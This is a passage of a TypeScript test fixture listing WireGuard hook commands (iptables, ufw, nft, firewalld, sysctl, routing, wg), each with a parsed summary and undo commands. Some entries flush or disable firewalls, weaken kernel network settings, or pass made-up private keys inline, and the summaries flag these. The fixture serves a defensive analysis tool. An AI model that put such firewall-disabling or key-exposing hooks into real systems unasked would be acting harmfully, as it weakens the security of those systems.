/** Hooks as tutorials, installers and administrators write them, for an interface `wg0`. */
export interface HookLine {
  readonly hook: string;
  /** What it does; see hook-summary.ts. */
  readonly does: readonly string[];
  /** The commands that take it back; see hook-summary.ts. */
  readonly undo: readonly string[];
}

/** Each was read by a person before it was written down here. The keys and passwords are made up. */
export const hookLines: readonly HookLine[] = [
  // iptables
  {
    hook: 'iptables -A FORWARD -i %i -j ACCEPT; iptables -A FORWARD -o %i -j ACCEPT; iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE',
    does: [
      '+ iptables 4 filter forward accept in=this',
      '+ iptables 4 filter forward accept out=this',
      '+ iptables 4 nat postrouting masquerade out=eth0',
    ],
    undo: [
      'iptables -D FORWARD -i %i -j ACCEPT',
      'iptables -D FORWARD -o %i -j ACCEPT',
      'iptables -t nat -D POSTROUTING -o eth0 -j MASQUERADE',
    ],
  },
  {
    hook: 'iptables -D FORWARD -i %i -j ACCEPT; iptables -D FORWARD -o %i -j ACCEPT; iptables -t nat -D POSTROUTING -o eth0 -j MASQUERADE',
    does: [
      '- iptables 4 filter forward accept in=this',
      '- iptables 4 filter forward accept out=this',
      '- iptables 4 nat postrouting masquerade out=eth0',
    ],
    undo: [],
  },
  {
    hook: 'iptables -A FORWARD -i wg0 -j ACCEPT; iptables -t nat -A POSTROUTING -o ens3 -j MASQUERADE; ip6tables -A FORWARD -i wg0 -j ACCEPT; ip6tables -t nat -A POSTROUTING -o ens3 -j MASQUERADE',
    does: [
      '+ iptables 4 filter forward accept in=this',
      '+ iptables 4 nat postrouting masquerade out=ens3',
      '+ iptables 6 filter forward accept in=this',
      '+ iptables 6 nat postrouting masquerade out=ens3',
    ],
    undo: [
      'iptables -D FORWARD -i wg0 -j ACCEPT',
      'iptables -t nat -D POSTROUTING -o ens3 -j MASQUERADE',
      'ip6tables -D FORWARD -i wg0 -j ACCEPT',
      'ip6tables -t nat -D POSTROUTING -o ens3 -j MASQUERADE',
    ],
  },
  {
    hook: 'iptables -t nat -A POSTROUTING -s 10.8.0.0/24 -o eth0 -j MASQUERADE; iptables -A INPUT -p udp -m udp --dport 51820 -j ACCEPT; iptables -A FORWARD -i wg0 -j ACCEPT; iptables -A FORWARD -o wg0 -j ACCEPT;',
    does: [
      '+ iptables 4 nat postrouting masquerade out=eth0 from=10.8.0.0/24',
      '+ iptables 4 filter input accept proto=udp ports=51820',
      '+ iptables 4 filter forward accept in=this',
      '+ iptables 4 filter forward accept out=this',
    ],
    undo: [
      'iptables -t nat -D POSTROUTING -s 10.8.0.0/24 -o eth0 -j MASQUERADE',
      'iptables -D INPUT -p udp -m udp --dport 51820 -j ACCEPT',
      'iptables -D FORWARD -i wg0 -j ACCEPT',
      'iptables -D FORWARD -o wg0 -j ACCEPT',
    ],
  },
  {
    hook: 'iptables -I FORWARD 1 -i %i -j ACCEPT && iptables -I FORWARD 1 -o %i -m state --state RELATED,ESTABLISHED -j ACCEPT',
    does: [
      '+ iptables 4 filter forward accept in=this',
      '+ iptables 4 filter forward accept out=this state=ESTABLISHED,RELATED',
    ],
    undo: [
      'iptables -D FORWARD -i %i -j ACCEPT',
      'iptables -D FORWARD -o %i -m state --state RELATED,ESTABLISHED -j ACCEPT',
    ],
  },
  {
    hook: "iptables -w -t nat -A POSTROUTING -o $(ip route show default | awk '{print $5}') -j MASQUERADE",
    does: ["+ iptables 4 nat postrouting masquerade out=$(ip route show default | awk '{print $5}')"],
    undo: ["iptables -w -t nat -D POSTROUTING -o $(ip route show default | awk '{print $5}') -j MASQUERADE"],
  },
  {
    hook: "iptables -t nat -A POSTROUTING -o `ip -4 route ls default | cut -d' ' -f5` -s 10.66.66.0/24 -j MASQUERADE",
    does: ["+ iptables 4 nat postrouting masquerade out=`ip -4 route ls default | cut -d' ' -f5` from=10.66.66.0/24"],
    undo: ["iptables -t nat -D POSTROUTING -o `ip -4 route ls default | cut -d' ' -f5` -s 10.66.66.0/24 -j MASQUERADE"],
  },
  {
    hook: "DEV=$(ip route get 1.1.1.1 | awk '{print $5; exit}'); iptables -t nat -A POSTROUTING -o $DEV -j MASQUERADE",
    does: ['+ iptables 4 nat postrouting masquerade out=$DEV'],
    undo: [
      "DEV=$(ip route get 1.1.1.1 | awk '{print $5; exit}'); iptables -t nat -D POSTROUTING -o $DEV -j MASQUERADE",
    ],
  },
  {
    hook: 'WAN=enp1s0; iptables -t nat -A POSTROUTING -o $WAN -j MASQUERADE; iptables -A FORWARD -i $WAN -o %i -m conntrack --ctstate ESTABLISHED,RELATED -j ACCEPT',
    does: [
      '+ iptables 4 nat postrouting masquerade out=enp1s0',
      '+ iptables 4 filter forward accept in=enp1s0 out=this state=ESTABLISHED,RELATED',
    ],
    undo: [
      'WAN=enp1s0; iptables -t nat -D POSTROUTING -o $WAN -j MASQUERADE',
      'WAN=enp1s0; iptables -D FORWARD -i $WAN -o %i -m conntrack --ctstate ESTABLISHED,RELATED -j ACCEPT',
    ],
  },
  {
    hook: '/usr/sbin/iptables -t nat -I POSTROUTING 1 -s 10.200.200.0/24 -o eth0 -j MASQUERADE',
    does: ['+ iptables 4 nat postrouting masquerade out=eth0 from=10.200.200.0/24'],
    undo: ['/usr/sbin/iptables -t nat -D POSTROUTING -s 10.200.200.0/24 -o eth0 -j MASQUERADE'],
  },
  {
    hook: 'sudo iptables --table nat --append POSTROUTING --out-interface eth0 --jump MASQUERADE',
    does: ['+ iptables 4 nat postrouting masquerade out=eth0'],
    undo: ['sudo iptables --table nat --delete POSTROUTING --out-interface eth0 --jump MASQUERADE'],
  },
  {
    hook: 'iptables-legacy -t nat -A POSTROUTING -o eth0 -j SNAT --to-source 198.51.100.7',
    does: ['+ iptables 4 nat postrouting snat out=eth0'],
    undo: ['iptables-legacy -t nat -D POSTROUTING -o eth0 -j SNAT --to-source 198.51.100.7'],
  },
  {
    hook: 'iptables -t nat -A POSTROUTING ! -o %i -s 10.13.13.0/24 -j MASQUERADE',
    does: ['+ iptables 4 nat postrouting masquerade out=not this from=10.13.13.0/24'],
    undo: ['iptables -t nat -D POSTROUTING ! -o %i -s 10.13.13.0/24 -j MASQUERADE'],
  },
  {
    hook: 'iptables -t nat -A POSTROUTING -o eth+ -j MASQUERADE',
    does: ['+ iptables 4 nat postrouting masquerade out=eth+'],
    undo: ['iptables -t nat -D POSTROUTING -o eth+ -j MASQUERADE'],
  },
  {
    hook: 'iptables -t nat -A POSTROUTING -j MASQUERADE',
    does: ['+ iptables 4 nat postrouting masquerade'],
    undo: ['iptables -t nat -D POSTROUTING -j MASQUERADE'],
  },
  {
    hook: 'iptables -t nat -A POSTROUTING -o %i -j MASQUERADE',
    does: ['+ iptables 4 nat postrouting masquerade out=this'],
    undo: ['iptables -t nat -D POSTROUTING -o %i -j MASQUERADE'],
  },
  { hook: 'iptables -t nat -D POSTROUTING 1', does: [], undo: [] },
  {
    hook: 'iptables -C FORWARD -i %i -j ACCEPT 2>/dev/null || iptables -A FORWARD -i %i -j ACCEPT',
    does: ['+ iptables 4 filter forward accept in=this'],
    undo: ['iptables -D FORWARD -i %i -j ACCEPT'],
  },
  {
    hook: 'iptables -A FORWARD -i %i -o eth0 -s 10.8.0.0/24 -m conntrack --ctstate NEW -j ACCEPT',
    does: ['+ iptables 4 filter forward accept in=this out=eth0 from=10.8.0.0/24 state=NEW'],
    undo: ['iptables -D FORWARD -i %i -o eth0 -s 10.8.0.0/24 -m conntrack --ctstate NEW -j ACCEPT'],
  },
  {
    hook: 'iptables -A FORWARD -i %i -o eth0 -d 192.168.1.0/24 -p tcp -m multiport --dports 80,443 -j ACCEPT',
    does: ['+ iptables 4 filter forward accept in=this out=eth0 to=192.168.1.0/24 proto=tcp ports=80,443'],
    undo: ['iptables -D FORWARD -i %i -o eth0 -d 192.168.1.0/24 -p tcp -m multiport --dports 80,443 -j ACCEPT'],
  },
  {
    hook: 'iptables -A FORWARD -i %i -o %i -j ACCEPT',
    does: ['+ iptables 4 filter forward accept in=this out=this'],
    undo: ['iptables -D FORWARD -i %i -o %i -j ACCEPT'],
  },
  {
    hook: 'iptables -A FORWARD -i %i -o %i -j REJECT --reject-with icmp-host-prohibited',
    does: ['+ iptables 4 filter forward reject in=this out=this'],
    undo: ['iptables -D FORWARD -i %i -o %i -j REJECT --reject-with icmp-host-prohibited'],
  },
  {
    hook: 'iptables -A FORWARD -i %i ! -d 10.0.0.0/16 -j DROP',
    does: ['+ iptables 4 filter forward drop in=this to=not 10.0.0.0/16'],
    undo: ['iptables -D FORWARD -i %i ! -d 10.0.0.0/16 -j DROP'],
  },
  {
    hook: 'iptables -A FORWARD -j ACCEPT',
    does: ['+ iptables 4 filter forward accept'],
    undo: ['iptables -D FORWARD -j ACCEPT'],
  },
  { hook: 'iptables -P FORWARD ACCEPT', does: ['policy iptables 4 forward accept'], undo: [] },
  {
    hook: 'iptables -P INPUT ACCEPT; iptables -F; iptables -X',
    does: ['policy iptables 4 input accept', 'off: deletes every rule', 'off: deletes every chain of others'],
    undo: [],
  },
  { hook: 'iptables -P FORWARD DROP', does: ['policy iptables 4 forward drop'], undo: [] },
  {
    hook: 'iptables -A INPUT -j ACCEPT',
    does: ['+ iptables 4 filter input accept'],
    undo: ['iptables -D INPUT -j ACCEPT'],
  },
  {
    hook: 'iptables -I INPUT -i %i -j ACCEPT',
    does: ['+ iptables 4 filter input accept in=this'],
    undo: ['iptables -D INPUT -i %i -j ACCEPT'],
  },
  {
    hook: 'iptables -I INPUT -i %i -p tcp --dport 22 -s 10.8.0.2 -j ACCEPT',
    does: ['+ iptables 4 filter input accept in=this from=10.8.0.2 proto=tcp ports=22'],
    undo: ['iptables -D INPUT -i %i -p tcp --dport 22 -s 10.8.0.2 -j ACCEPT'],
  },
  {
    hook: 'iptables -A INPUT -i ! eth0 -j ACCEPT',
    does: ['+ iptables 4 filter input accept in=not eth0'],
    undo: ['iptables -D INPUT -i ! eth0 -j ACCEPT'],
  },
  {
    hook: 'iptables -I INPUT -p udp --dport 51820 -j ACCEPT -m comment --comment "wireguard #1"',
    does: ['+ iptables 4 filter input accept proto=udp ports=51820'],
    undo: ['iptables -D INPUT -p udp --dport 51820 -j ACCEPT -m comment --comment "wireguard #1"'],
  },
  {
    hook: 'iptables -I DOCKER-USER -i %i -o docker0 -j ACCEPT',
    does: ['+ iptables 4 filter forward accept in=this out=docker0'],
    undo: ['iptables -D DOCKER-USER -i %i -o docker0 -j ACCEPT'],
  },
  {
    hook: 'iptables -I DOCKER-USER 1 -s 10.8.0.0/24 -j RETURN',
    does: ['+ iptables 4 filter forward return from=10.8.0.0/24'],
    undo: ['iptables -D DOCKER-USER -s 10.8.0.0/24 -j RETURN'],
  },
  {
    hook: 'iptables -t mangle -A FORWARD -p tcp --tcp-flags SYN,RST SYN -j TCPMSS --clamp-mss-to-pmtu',
    does: ['+ iptables 4 mangle forward other proto=tcp …'],
    undo: ['iptables -t mangle -D FORWARD -p tcp --tcp-flags SYN,RST SYN -j TCPMSS --clamp-mss-to-pmtu'],
  },
  {
    hook: 'iptables -t mangle -A POSTROUTING -o %i -p tcp -m tcp --tcp-flags SYN,RST SYN -j TCPMSS --set-mss 1360',
    does: ['+ iptables 4 mangle postrouting other out=this proto=tcp …'],
    undo: ['iptables -t mangle -D POSTROUTING -o %i -p tcp -m tcp --tcp-flags SYN,RST SYN -j TCPMSS --set-mss 1360'],
  },
  {
    hook: 'iptables -t mangle -A PREROUTING -i eth1 -j MARK --set-mark 0x1',
    does: ['+ iptables 4 mangle prerouting mark in=eth1'],
    undo: ['iptables -t mangle -D PREROUTING -i eth1 -j MARK --set-mark 0x1'],
  },
  {
    hook: 'iptables -t nat -A PREROUTING -i eth0 -p tcp --dport 8080 -j DNAT --to-destination 10.8.0.2:80',
    does: ['+ iptables 4 nat prerouting dnat in=eth0 proto=tcp ports=8080'],
    undo: ['iptables -t nat -D PREROUTING -i eth0 -p tcp --dport 8080 -j DNAT --to-destination 10.8.0.2:80'],
  },
  {
    hook: 'iptables -t nat -A PREROUTING -i eth0 -p udp -m multiport --dports 53,123,443 -j REDIRECT --to-ports 51820',
    does: ['+ iptables 4 nat prerouting redirect in=eth0 proto=udp ports=53,123,443'],
    undo: [
      'iptables -t nat -D PREROUTING -i eth0 -p udp -m multiport --dports 53,123,443 -j REDIRECT --to-ports 51820',
    ],
  },
  {
    hook: 'iptables -t nat -A PREROUTING -i %i -p udp --dport 53 -j DNAT --to 10.8.0.1',
    does: ['+ iptables 4 nat prerouting dnat in=this proto=udp ports=53'],
    undo: ['iptables -t nat -D PREROUTING -i %i -p udp --dport 53 -j DNAT --to 10.8.0.1'],
  },
  {
    hook: 'iptables -I OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark) -m addrtype ! --dst-type LOCAL -j REJECT && ip6tables -I OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark) -m addrtype ! --dst-type LOCAL -j REJECT',
    does: ['+ iptables 4 filter output reject out=not this …', '+ iptables 6 filter output reject out=not this …'],
    undo: [
      'iptables -D OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark) -m addrtype ! --dst-type LOCAL -j REJECT',
      'ip6tables -D OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark) -m addrtype ! --dst-type LOCAL -j REJECT',
    ],
  },
  {
    hook: 'iptables -D OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark) -m addrtype ! --dst-type LOCAL -j REJECT',
    does: ['- iptables 4 filter output reject out=not this …'],
    undo: [],
  },
  {
    hook: 'iptables -N WG-OUT; iptables -A WG-OUT -d 10.0.0.0/8 -j ACCEPT; iptables -A WG-OUT -j DROP; iptables -I FORWARD -i %i -j WG-OUT',
    does: [
      '+ iptables 4 filter other accept to=10.0.0.0/8',
      '+ iptables 4 filter other drop',
      '+ iptables 4 filter forward jump in=this',
    ],
    undo: [
      'iptables -X WG-OUT',
      'iptables -D WG-OUT -d 10.0.0.0/8 -j ACCEPT',
      'iptables -D WG-OUT -j DROP',
      'iptables -D FORWARD -i %i -j WG-OUT',
    ],
  },
  { hook: 'iptables -F WG-OUT; iptables -X WG-OUT', does: [], undo: [] },
  { hook: 'iptables -F FORWARD', does: ['off: deletes every rule of FORWARD'], undo: [] },
  { hook: 'iptables -t nat -F', does: [], undo: [] },
  {
    hook: 'iptables -A FORWARD -i wg1 -o wg0 -j ACCEPT',
    does: ['+ iptables 4 filter forward accept in=wg1 out=this'],
    undo: ['iptables -D FORWARD -i wg1 -o wg0 -j ACCEPT'],
  },
  {
    hook: 'ip6tables -A FORWARD -i wg0 -o eth0 -s fd00:8::/64 -j ACCEPT',
    does: ['+ iptables 6 filter forward accept in=this out=eth0 from=fd00:8::/64'],
    undo: ['ip6tables -D FORWARD -i wg0 -o eth0 -s fd00:8::/64 -j ACCEPT'],
  },
  {
    hook: 'ip6tables -t nat -A POSTROUTING -s fd42:42:42::/64 -o eth0 -j MASQUERADE',
    does: ['+ iptables 6 nat postrouting masquerade out=eth0 from=fd42:42:42::/64'],
    undo: ['ip6tables -t nat -D POSTROUTING -s fd42:42:42::/64 -o eth0 -j MASQUERADE'],
  },
  {
    hook: 'ip6tables -A FORWARD -m state --state RELATED,ESTABLISHED -j ACCEPT',
    does: ['+ iptables 6 filter forward accept state=ESTABLISHED,RELATED'],
    undo: ['ip6tables -D FORWARD -m state --state RELATED,ESTABLISHED -j ACCEPT'],
  },
  { hook: 'iptables-restore < /etc/wireguard/rules.v4', does: ['script /etc/wireguard/rules.v4'], undo: [] },
  {
    hook: 'iptables -A FORWARD --in-interface=%i --jump=ACCEPT',
    does: ['+ iptables 4 filter forward accept in=this'],
    undo: ['iptables -D FORWARD --in-interface=%i --jump=ACCEPT'],
  },
  {
    hook: 'iptables -A FORWARD -i%i -jACCEPT',
    does: ['+ iptables 4 filter forward accept in=this'],
    undo: ['iptables -D FORWARD -i%i -jACCEPT'],
  },
  {
    hook: "bash -c 'iptables -A FORWARD -i %i -j ACCEPT'",
    does: ['+ iptables 4 filter forward accept in=this'],
    undo: ['iptables -D FORWARD -i %i -j ACCEPT'],
  },
  {
    hook: 'sh -c "iptables -t nat -A POSTROUTING -s 10.8.0.1/24 -o eth0 -j MASQUERADE"',
    does: ['+ iptables 4 nat postrouting masquerade out=eth0 from=10.8.0.1/24'],
    undo: ['iptables -t nat -D POSTROUTING -s 10.8.0.1/24 -o eth0 -j MASQUERADE'],
  },
  {
    hook: 'if ! iptables -t nat -C POSTROUTING -o eth0 -j MASQUERADE; then iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE; fi',
    does: ['+ iptables 4 nat postrouting masquerade out=eth0'],
    undo: ['iptables -t nat -D POSTROUTING -o eth0 -j MASQUERADE'],
  },
  {
    hook: '(iptables -A FORWARD -i %i -j ACCEPT; ip6tables -A FORWARD -i %i -j ACCEPT)',
    does: ['+ iptables 4 filter forward accept in=this', '+ iptables 6 filter forward accept in=this'],
    undo: ['iptables -D FORWARD -i %i -j ACCEPT', 'ip6tables -D FORWARD -i %i -j ACCEPT'],
  },
  {
    hook: 'env -i PATH=/usr/sbin iptables -A FORWARD -i %i -j ACCEPT',
    does: ['+ iptables 4 filter forward accept in=this'],
    undo: ['env -i PATH=/usr/sbin iptables -D FORWARD -i %i -j ACCEPT'],
  },
  {
    hook: 'timeout 10 iptables -w 5 -A FORWARD -i %i -j ACCEPT &',
    does: ['+ iptables 4 filter forward accept in=this'],
    undo: ['timeout 10 iptables -w 5 -D FORWARD -i %i -j ACCEPT'],
  },
  // ufw
  {
    hook: 'ufw route allow in on wg0 out on eth0',
    does: ['+ ufw 4,6 filter forward accept in=this out=eth0'],
    undo: ['ufw route delete allow in on wg0 out on eth0'],
  },
  {
    hook: 'ufw route delete allow in on wg0 out on eth0',
    does: ['- ufw 4,6 filter forward accept in=this out=eth0'],
    undo: [],
  },
  {
    hook: "ufw route allow in on %i from 10.8.0.0/24 to 192.168.1.0/24 port 443 proto tcp comment 'web behind the tunnel'",
    does: ['+ ufw 4,6 filter forward accept in=this from=10.8.0.0/24 to=192.168.1.0/24 proto=tcp ports=443'],
    undo: ['ufw route delete allow in on %i from 10.8.0.0/24 to 192.168.1.0/24 port 443 proto tcp'],
  },
  {
    hook: 'ufw allow 51820/udp',
    does: ['+ ufw 4,6 filter input accept proto=udp ports=51820'],
    undo: ['ufw delete allow 51820/udp'],
  },
  {
    hook: 'ufw allow in on %i to any port 53',
    does: ['+ ufw 4,6 filter input accept in=this ports=53'],
    undo: ['ufw delete allow in on %i to any port 53'],
  },
  {
    hook: 'ufw allow in on wg0',
    does: ['+ ufw 4,6 filter input accept in=this'],
    undo: ['ufw delete allow in on wg0'],
  },
  {
    hook: 'ufw allow from 10.8.0.0/24',
    does: ['+ ufw 4,6 filter input accept from=10.8.0.0/24'],
    undo: ['ufw delete allow from 10.8.0.0/24'],
  },
  {
    hook: 'ufw insert 1 allow from 10.8.0.5 to any port 22 proto tcp',
    does: ['+ ufw 4,6 filter input accept from=10.8.0.5 proto=tcp ports=22'],
    undo: ['ufw delete allow from 10.8.0.5 to any port 22 proto tcp'],
  },
  {
    hook: 'ufw --force delete allow 51820/udp',
    does: ['- ufw 4,6 filter input accept proto=udp ports=51820'],
    undo: [],
  },
  { hook: 'ufw delete 3', does: [], undo: [] },
  { hook: 'ufw disable', does: ['off: switches ufw off'], undo: [] },
  { hook: 'ufw --force reset', does: ['off: switches ufw off and deletes its rules'], undo: [] },
  { hook: 'ufw default allow incoming', does: ['policy ufw 4,6 input accept'], undo: [] },
  { hook: 'ufw default allow routed', does: ['policy ufw 4,6 forward accept'], undo: [] },
  { hook: 'ufw limit ssh', does: ['+ ufw 4,6 filter input accept ports=ssh'], undo: ['ufw delete limit ssh'] },
  {
    hook: 'ufw deny out on eth0',
    does: ['+ ufw 4,6 filter output drop out=eth0'],
    undo: ['ufw delete deny out on eth0'],
  },
  // nft
  {
    hook: 'nft add rule inet filter forward iifname "%i" accept',
    does: ['+ nft 4,6 filter forward accept in=this'],
    undo: ['?'],
  },
  {
    hook: 'nft add rule inet filter input udp dport 51820 accept',
    does: ['+ nft 4,6 filter input accept proto=udp ports=51820'],
    undo: ['?'],
  },
  {
    hook: 'nft add rule ip nat postrouting oifname "eth0" ip saddr 10.8.0.0/24 masquerade',
    does: ['+ nft 4 nat postrouting masquerade out=eth0 from=10.8.0.0/24'],
    undo: ['?'],
  },
  {
    hook: "nft add table ip wireguard; nft add chain ip wireguard nat '{ type nat hook postrouting priority 100; }'; nft add rule ip wireguard nat oifname eth0 masquerade",
    does: ['+ nft 4 wireguard postrouting masquerade out=eth0'],
    undo: ['nft delete table ip wireguard', 'nft delete chain ip wireguard nat', '?'],
  },
  {
    hook: 'nft add table inet ks-%i; nft add chain inet ks-%i out \'{ type filter hook output priority 0; }\'; nft add rule inet ks-%i out oifname != \'{ "lo", "%i" }\' meta mark != 51820 reject',
    does: ['+ nft 4,6 ks-%i output reject out=not this …'],
    undo: ['nft delete table inet ks-%i', 'nft delete chain inet ks-%i out', '?'],
  },
  { hook: 'nft delete table inet ks-%i', does: [], undo: [] },
  {
    hook: 'nft insert rule inet filter forward iifname %i oifname eth0 ct state new counter accept comment \\"vpn\\"',
    does: ['+ nft 4,6 filter forward accept in=this out=eth0 state=NEW'],
    undo: ['?'],
  },
  {
    hook: 'nft add rule inet filter forward iifname eth0 oifname %i ct state established,related accept',
    does: ['+ nft 4,6 filter forward accept in=eth0 out=this state=ESTABLISHED,RELATED'],
    undo: ['?'],
  },
  {
    hook: 'nft add rule inet filter input iifname { lo, %i } accept',
    does: ['+ nft 4,6 filter input accept in=this'],
    undo: ['?'],
  },
  {
    hook: "nft 'add rule inet filter input ip saddr 10.8.0.0/24 tcp dport { 22, 443 } accept; add rule inet filter forward iifname wg0 oifname wg0 drop'",
    does: [
      '+ nft 4 filter input accept from=10.8.0.0/24 proto=tcp ports=22,443',
      '+ nft 4,6 filter forward drop in=this out=this',
    ],
    undo: ['?', '?'],
  },
  { hook: 'nft flush ruleset', does: ['off: deletes every rule of nftables'], undo: [] },
  { hook: 'nft flush table inet filter', does: ['off: deletes every rule of the table inet filter'], undo: [] },
  { hook: 'nft -f /etc/wireguard/%i.nft', does: ['script /etc/wireguard/%i.nft'], undo: [] },
  {
    hook: "nft add element inet filter vpn_clients '{ 10.8.0.2 }'",
    does: [],
    undo: ["nft delete element inet filter vpn_clients '{ 10.8.0.2 }'"],
  },
  {
    hook: 'nft add rule inet fw4 input iifname wg0 meta l4proto icmp accept',
    does: ['+ nft 4,6 fw4 input accept in=this proto=icmp'],
    undo: ['?'],
  },
  {
    hook: 'nft add rule ip mangle forward tcp flags syn tcp option maxseg size set rt mtu',
    does: ['+ nft 4 mangle forward other …'],
    undo: ['?'],
  },
  {
    hook: 'nft add rule ip nat prerouting iif eth0 tcp dport 8443 dnat to 10.8.0.3:443',
    does: ['+ nft 4 nat prerouting dnat in=eth0 proto=tcp ports=8443'],
    undo: ['?'],
  },
  // firewalld
  {
    hook: 'firewall-cmd --zone=public --add-port=51820/udp; firewall-cmd --zone=public --add-masquerade',
    does: ['+ firewalld 4,6 filter input accept proto=udp ports=51820 …', '+ firewalld 4 nat postrouting masquerade …'],
    undo: ['firewall-cmd --zone=public --remove-port=51820/udp', 'firewall-cmd --zone=public --remove-masquerade'],
  },
  {
    hook: 'firewall-cmd --zone=trusted --add-interface=%i',
    does: ['+ firewalld 4,6 filter input accept in=this'],
    undo: ['firewall-cmd --zone=trusted --remove-interface=%i'],
  },
  {
    hook: 'firewall-cmd --zone=public --add-rich-rule=\'rule family="ipv4" source address="10.8.0.0/24" masquerade\'',
    does: ['+ firewalld 4 nat postrouting masquerade from=10.8.0.0/24 …'],
    undo: [
      'firewall-cmd --zone=public --remove-rich-rule=\'rule family="ipv4" source address="10.8.0.0/24" masquerade\'',
    ],
  },
  {
    hook: 'firewall-cmd --direct --add-rule ipv4 filter FORWARD 0 -i wg0 -o eth0 -j ACCEPT',
    does: ['+ firewalld 4 filter forward accept in=this out=eth0'],
    undo: ['firewall-cmd --direct --remove-rule ipv4 filter FORWARD 0 -i wg0 -o eth0 -j ACCEPT'],
  },
  {
    hook: 'firewall-cmd --set-default-zone=trusted',
    does: ['off: makes the zone that accepts everything the default'],
    undo: [],
  },
  {
    hook: 'firewall-cmd --add-service=http --zone internal',
    does: ['+ firewalld 4,6 filter input accept ports=http …'],
    undo: ['firewall-cmd --remove-service=http --zone internal'],
  },
  {
    hook: 'firewall-cmd --zone=public --remove-port=51820/udp',
    does: ['- firewalld 4,6 filter input accept proto=udp ports=51820 …'],
    undo: [],
  },
  // kernel
  { hook: 'sysctl -w net.ipv4.ip_forward=1', does: ['forwarding 4 all on'], undo: [] },
  {
    hook: 'sysctl -q -w net.ipv4.ip_forward=1 net.ipv6.conf.all.forwarding=1',
    does: ['forwarding 4 all on', 'forwarding 6 all on'],
    undo: [],
  },
  { hook: 'sysctl -w net.ipv4.conf.%i.forwarding=1', does: ['forwarding 4 %i on'], undo: [] },
  { hook: 'echo 1 > /proc/sys/net/ipv4/ip_forward', does: ['forwarding 4 all on'], undo: [] },
  { hook: 'echo 1 | sudo tee /proc/sys/net/ipv4/ip_forward >/dev/null', does: ['forwarding 4 all on'], undo: [] },
  { hook: 'sysctl -w net.ipv4.ip_forward=0', does: ['forwarding 4 all off'], undo: [] },
  { hook: 'sysctl net.ipv4.conf.all.rp_filter=0', does: ['kernel net.ipv4.conf.all.rp_filter=0 (weaker)'], undo: [] },
  { hook: 'sysctl -w net.ipv4.conf.%i.rp_filter=2', does: ['kernel net.ipv4.conf.%i.rp_filter=2'], undo: [] },
  {
    hook: 'echo 0 > /proc/sys/net/ipv4/conf/%i/rp_filter',
    does: ['kernel net.ipv4.conf.%i.rp_filter=0 (weaker)'],
    undo: [],
  },
  {
    hook: 'sysctl -w net.ipv4.conf.all.route_localnet=1; sysctl -w net.ipv4.conf.all.accept_redirects=1',
    does: [
      'kernel net.ipv4.conf.all.route_localnet=1 (weaker)',
      'kernel net.ipv4.conf.all.accept_redirects=1 (weaker)',
    ],
    undo: [],
  },
  { hook: 'sysctl -w net.ipv6.conf.all.disable_ipv6=1', does: ['kernel net.ipv6.conf.all.disable_ipv6=1'], undo: [] },
  { hook: 'sysctl -p /etc/sysctl.d/99-wg.conf', does: ['script /etc/sysctl.d/99-wg.conf'], undo: [] },
  {
    hook: 'sysctl -w "net.ipv4.conf.all.src_valid_mark=1"',
    does: ['kernel net.ipv4.conf.all.src_valid_mark=1'],
    undo: [],
  },
  // routing
  {
    hook: 'ip rule add from 10.8.0.2 table 200; ip route add default via 192.168.1.1 dev eth0 table 200',
    does: ['rule add from 10.8.0.2 table 200', 'route add default via 192.168.1.1 dev eth0 table 200'],
    undo: ['ip rule del from 10.8.0.2 table 200', 'ip route del default via 192.168.1.1 dev eth0 table 200'],
  },
  {
    hook: 'ip rule del from 10.8.0.2 table 200; ip route del default via 192.168.1.1 dev eth0 table 200',
    does: ['rule remove from 10.8.0.2 table 200', 'route remove default via 192.168.1.1 dev eth0 table 200'],
    undo: [],
  },
  { hook: 'ip route add 10.20.0.0/16 dev %i', does: ['route add 10.20.0.0/16 dev %i'], undo: ['-'] },
  {
    hook: 'ip route add 198.51.100.1/32 via 192.0.2.1',
    does: ['route add 198.51.100.1/32 via 192.0.2.1'],
    undo: ['ip route del 198.51.100.1/32 via 192.0.2.1'],
  },
  {
    hook: 'ip -6 rule add not fwmark 51820 table 51820 priority 10',
    does: ['rule add not fwmark 51820 table 51820 priority 10'],
    undo: ['ip -6 rule del not fwmark 51820 table 51820 priority 10'],
  },
  {
    hook: 'ip rule add iif %i lookup 100',
    does: ['rule add iif %i lookup 100'],
    undo: ['ip rule del iif %i lookup 100'],
  },
  { hook: 'ip addr add 10.9.0.1/32 dev %i', does: ['address add 10.9.0.1/32 dev %i'], undo: ['-'] },
  {
    hook: 'ip link add dummy0 type dummy; ip link set dummy0 up',
    does: ['link add dummy0 type dummy'],
    undo: ['ip link del dummy0'],
  },
  { hook: 'ip link set mtu 1380 dev %i', does: [], undo: [] },
  { hook: 'ip route replace default dev wg0 table vpn', does: [], undo: [] },
  { hook: 'ip netns add vpn; ip link set %i netns vpn', does: [], undo: [] },
  // wg
  { hook: 'wg set %i private-key /etc/wireguard/%i.key', does: ['wg set this private-key peers=0'], undo: [] },
  { hook: 'wg set %i private-key <(pass wireguard/%i)', does: ['wg set this private-key peers=0'], undo: [] },
  {
    hook: 'wg set %i private-key <(echo QCDyYSpmpAEkgnAXQRBBThvF2vWhgQvUIlXZMtiQEGs=)',
    does: ['wg set this private-key peers=0', 'secret private-key @<(echo '],
    undo: [],
  },
  {
    hook: 'wg set %i peer Zjh7o7Zsh4ykIb0xj5h2LA4MMIr7zbTjcIgBiLxzbQs= preshared-key /etc/wireguard/srv.psk',
    does: ['wg set this preshared-key peers=1'],
    undo: [],
  },
  {
    hook: 'wg set %i peer Zjh7o7Zsh4ykIb0xj5h2LA4MMIr7zbTjcIgBiLxzbQs= preshared-key <(echo "7LQAFv62pengMTH9k+jtPPyyrZwpQu8JvfKgR8G+lyE=")',
    does: ['wg set this preshared-key peers=1', 'secret preshared-key @<(echo "'],
    undo: [],
  },
  {
    hook: 'wg set wg1 peer Zjh7o7Zsh4ykIb0xj5h2LA4MMIr7zbTjcIgBiLxzbQs= allowed-ips 10.0.0.0/24 endpoint 198.51.100.1:51820',
    does: ['wg set wg1 endpoint,allowed-ips peers=1'],
    undo: [],
  },
  {
    hook: 'echo QCDyYSpmpAEkgnAXQRBBThvF2vWhgQvUIlXZMtiQEGs= | wg set %i private-key /dev/stdin',
    does: ['secret private-key @echo ', 'wg set this private-key peers=0'],
    undo: [],
  },
